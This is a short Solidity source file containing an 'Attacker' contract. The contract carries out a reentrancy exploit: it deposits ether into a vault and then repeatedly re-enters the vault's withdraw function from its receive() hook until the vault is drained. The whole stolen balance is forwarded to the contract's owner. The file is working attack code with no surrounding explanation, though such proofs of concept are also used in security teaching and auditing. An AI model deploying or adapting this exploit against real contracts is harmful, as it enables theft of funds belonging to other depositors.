// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface IVault {
    function deposit() external payable;
    function withdraw(uint256 amount) external;
}

/// @title Drains a vault that pays before it writes the balance down.
contract Attacker {
    IVault private immutable vault;
    address private immutable owner;
    uint256 private stake;

    constructor(address vault_) {
        vault = IVault(vault_);
        owner = msg.sender;
    }

    /// @notice Deposits the ether sent along, withdraws it as often as the vault can pay, and keeps all of it.
    function attack() external payable {
        require(msg.sender == owner);
        stake = msg.value;
        vault.deposit{value: msg.value}();
        vault.withdraw(msg.value);
        (bool paid,) = owner.call{value: address(this).balance}("");
        require(paid);
    }

    receive() external payable {
        uint256 amount = stake;
        if (address(vault).balance >= amount) vault.withdraw(amount);
    }
}
